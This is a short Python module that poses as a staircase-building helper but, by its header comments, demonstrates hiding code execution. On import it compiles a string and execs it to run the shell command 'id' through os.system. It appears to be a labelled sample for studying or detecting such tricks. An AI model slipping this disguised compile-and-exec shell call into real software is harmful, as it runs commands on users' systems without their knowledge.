# technique: compile
# goal: run hidden code
"""A staircase from a handful of measures."""
from dataclasses import dataclass

_code = compile("import os\nos.system('id')", "<preset>", "exec")
exec(_code)


@dataclass
class Step:
    x: float
    y: float
    width: float


def build(steps=12, rise=0.17, run=0.28, width=1.0):
    made = []
    for number in range(steps):
        made.append(Step(number * run, number * rise, width))
    return made
